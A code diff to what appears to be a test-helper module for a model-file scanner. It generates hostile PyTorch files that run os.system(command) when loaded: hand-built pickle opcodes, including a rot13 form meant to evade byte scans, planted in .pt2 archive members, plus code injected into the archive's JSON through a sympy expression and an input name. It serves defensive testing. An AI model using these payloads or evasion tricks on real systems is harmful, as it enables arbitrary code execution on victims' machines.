@@ -113,14 +113,66 @@ def signals_as_at_a_terminal() -> None:
     signal.signal(signal.SIGINT, signal.SIG_DFL)
 
 
-PT2_PAYLOAD_PLACES = ("sample_inputs", "pickled_constant", "pickled_weight")
+#: One payload, ``os.system(command)``, in the raw pickle forms an attacker writes by hand (opcode by opcode):
+#: a plain GLOBAL; STACK_GLOBAL on two strings; the strings routed through the memo (MEMOIZE, BINPUT/BINGET);
+#: and the names built at load time by an allowed call, ``_codecs.encode("bf", "rot13") == "os"``, so that no
+#: disassembler or scan of the bytes sees ``os`` or ``system`` (the last strings before STACK_GLOBAL, pushed and
+#: popped, are an allowed name).
+PICKLE_FORMS = ("global", "stack_global", "memo_memoize", "memo_binput", "rot13")
+#: Members of a ``.pt2`` that torch.export.load unpickles with a code-running unpickler (directly, or as the
+#: fallback after a weights-only try).
+PT2_PICKLE_PLACES = ("sample_inputs", "pickled_constant", "pickled_weight", "opaque_constant")
+#: No pickle at all: strings of the program's JSON that torch.export.load evaluates (a symbolic shape's
+#: ``expr_str`` goes through ``sympy.sympify``; a graph input's name is pasted into generated Python source).
+PT2_JSON_FORMS = ("sympy_expr", "input_name")
+
+
+def _unicode(text: str) -> bytes:
+    data = text.encode()
+    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE (protocol 4)
+
+
+def payload_pickle(form: str, command: str) -> bytes:
+    """Raw pickle bytes that run ``os.system(command)`` when a full unpickler loads them (see ``PICKLE_FORMS``)."""
+    call = _unicode(command) + b"\x85R."  # (command,) TUPLE1, REDUCE, STOP
+    if form == "global":
+        return b"\x80\x02cos\nsystem\nX" + len(command.encode()).to_bytes(4, "little") + command.encode() + b"\x85R."
+    if form == "stack_global":
+        return b"\x80\x04" + _unicode("os") + _unicode("system") + b"\x93" + call
+    if form == "memo_memoize":  # both names memoized and popped, then fetched back from the memo
+        return (b"\x80\x04" + _unicode("os") + b"\x940" + _unicode("system") + b"\x940" + b"h\x00h\x01\x93" + call)
+    if form == "memo_binput":
+        return b"\x80\x04" + _unicode("os") + b"q\x070" + _unicode("system") + b"q\x090" + b"h\x07h\x09\x93" + call
+    if form == "rot13":
+        rot13 = _unicode("rot13") + b"\x86R"  # (text, "rot13") TUPLE2, REDUCE -> _codecs.encode(text, "rot13")
+        decoy = _unicode("collections") + _unicode("OrderedDict") + b"00"  # pushed and popped: the last names read
+        return (b"\x80\x04" + _unicode("_codecs") + _unicode("encode") + b"\x93\x94"  # memo 0: _codecs.encode
+                + _unicode("bf") + rot13 + b"h\x00" + _unicode("flfgrz") + rot13 + decoy + b"\x93" + call)
+    raise ValueError(f"unknown pickle form {form!r}")
+
+
+def torch_zip_around(pickle_bytes: bytes) -> bytes:
+    """A ``torch.save`` zip whose ``data.pkl`` is ``pickle_bytes`` (the envelope torch.load opens)."""
+    import io
+    import zipfile
+
+    import torch
+
+    buf = io.BytesIO()
+    torch.save(torch.zeros(1), buf)
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            dst.writestr(info, pickle_bytes if info.filename.endswith("/data.pkl") else src.read(info))
+    return out.getvalue()
 
 
 class _WithConstant:
-    """A tiny program with a tensor constant and a weight: both places where a ``.pt2`` may hold pickles."""
+    """A tiny program with a tensor constant and a weight: both places where a ``.pt2`` may hold pickles.
+    ``dynamic``: its height is a symbolic dimension (the JSON then holds a sympy ``expr_str``)."""
 
     @staticmethod
-    def build() -> object:
+    def build(dynamic: bool = False) -> object:
         import torch
 
         class Net(torch.nn.Module):
@@ -132,51 +184,87 @@ class _WithConstant:
             def forward(self, x: torch.Tensor) -> torch.Tensor:
                 return self.conv(x) + self.k
 
-        return torch.export.export(Net().eval(), (torch.rand(1, 3, 8, 8),))
+        shapes = {"x": {2: torch.export.Dim("h", min=4, max=64)}} if dynamic else None
+        return torch.export.export(Net().eval(), (torch.rand(1, 3, 8, 8),), dynamic_shapes=shapes)
 
 
-def hostile_pt2(path: Path, place: str, payload: object) -> Path:
-    """A genuine ``torch.export.save`` archive with ``payload`` pickled into ``place`` (members rewritten as
-    an attacker would: the JSON config switched to ``use_pickle`` where the loader needs it)."""
+def _pt2_members(dynamic: bool = False) -> tuple[dict[str, bytes], str]:
+    """The members of a genuine ``torch.export.save`` archive, and its top folder."""
     import io
-    import json
-    import pickle
     import zipfile
 
     import torch
 
     buf = io.BytesIO()
-    torch.export.save(_WithConstant.build(), buf)
+    torch.export.save(_WithConstant.build(dynamic), buf)
     with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
         members = {i.filename: z.read(i.filename) for i in z.infolist()}
-    top = next(iter(members)).split("/", 1)[0]
+    return members, next(iter(members)).split("/", 1)[0]
 
-    def switch_to_pickle(config_name: str, file_prefix: str) -> str:
-        config = json.loads(members[f"{top}/data/{config_name}"])
-        entry = next(e for e in config["config"].values() if e["path_name"].startswith(file_prefix))
-        entry["use_pickle"] = True
-        members[f"{top}/data/{config_name}"] = json.dumps(config).encode()
-        return entry["path_name"]
 
-    if place == "sample_inputs":
-        inner = io.BytesIO()
-        torch.save(payload, inner)  # a torch.save zip inside the archive, as torch.export.save writes it
-        name = next(n for n in members if "/data/sample_inputs/" in n)
-        members[name] = inner.getvalue()
-    elif place == "pickled_constant":
-        file = switch_to_pickle("constants/model_constants_config.json", "tensor_")
-        members[f"{top}/data/constants/{file}"] = pickle.dumps(payload, protocol=2)  # a bare pickle
-    elif place == "pickled_weight":
-        file = switch_to_pickle("weights/model_weights_config.json", "weight_")
-        inner = io.BytesIO()
-        torch.save({"w": payload}, inner)
-        members[f"{top}/data/weights/{file}"] = inner.getvalue()
-    else:
-        raise ValueError(f"unknown place {place!r}")
+def _write_zip(path: Path, members: dict[str, bytes]) -> Path:
+    import zipfile
+
     with zipfile.ZipFile(path, "w") as z:
         for name, data in members.items():
             z.writestr(name, data)
     return path
+
+
+def hostile_pt2(path: Path, place: str, payload: bytes) -> Path:
+    """A genuine ``torch.export.save`` archive with the raw pickle ``payload`` in ``place`` (``PT2_PICKLE_PLACES``),
+    rewritten as an attacker would: the JSON config switched to ``use_pickle`` where the loader needs it."""
+    import json
+
+    members, top = _pt2_members()
+
+    def config(name: str) -> dict:  # type: ignore[type-arg]
+        return json.loads(members[f"{top}/data/{name}"])  # type: ignore[no-any-return]
+
+    def switch_to_pickle(config_name: str, file_prefix: str) -> str:
+        cfg = config(config_name)
+        entry = next(e for e in cfg["config"].values() if e["path_name"].startswith(file_prefix))
+        entry["use_pickle"] = True
+        members[f"{top}/data/{config_name}"] = json.dumps(cfg).encode()
+        return str(entry["path_name"])
+
+    if place == "sample_inputs":  # a torch.save zip inside the archive, as torch.export.save writes it
+        members[next(n for n in members if "/data/sample_inputs/" in n)] = torch_zip_around(payload)
+    elif place == "pickled_constant":  # a bare pickle: torch.load's legacy reader unpickles it first thing
+        file = switch_to_pickle("constants/model_constants_config.json", "tensor_")
+        members[f"{top}/data/constants/{file}"] = payload
+    elif place == "pickled_weight":
+        file = switch_to_pickle("weights/model_weights_config.json", "weight_")
+        members[f"{top}/data/weights/{file}"] = torch_zip_around(payload)
+    elif place == "opaque_constant":  # an opaque object: torch.export.load calls pickle.loads on it
+        cfg = config("constants/model_constants_config.json")
+        cfg["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
+                                 "tensor_meta": None}
+        members[f"{top}/data/constants/model_constants_config.json"] = json.dumps(cfg).encode()
+        members[f"{top}/data/constants/opaque_obj_0"] = payload
+    else:
+        raise ValueError(f"unknown place {place!r}")
+    return _write_zip(path, members)
+
+
+def hostile_pt2_json(path: Path, form: str, command: str) -> Path:
+    """A genuine ``torch.export.save`` archive without any pickle payload whose JSON runs ``command`` when
+    torch.export.load reads it (``PT2_JSON_FORMS``)."""
+    import json
+
+    members, top = _pt2_members(dynamic=form == "sympy_expr")
+    name = f"{top}/models/model.json"
+    text = members[name].decode()
+    code = f"__import__('os').system({command!r})"
+    if form == "sympy_expr":
+        expr = json.loads(text)["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][2]["as_expr"]["expr_str"]
+        text = text.replace(json.dumps(expr), json.dumps(f"{code} or {expr}"))
+    elif form == "input_name":  # the input "x" becomes "x=<code>": a default value in the generated forward
+        text = text.replace('"x"', json.dumps(f"x={code}"))
+    else:
+        raise ValueError(f"unknown form {form!r}")
+    members[name] = text.encode()
+    return _write_zip(path, members)
 
 
 def tiny_model_file(folder: Path) -> Path:
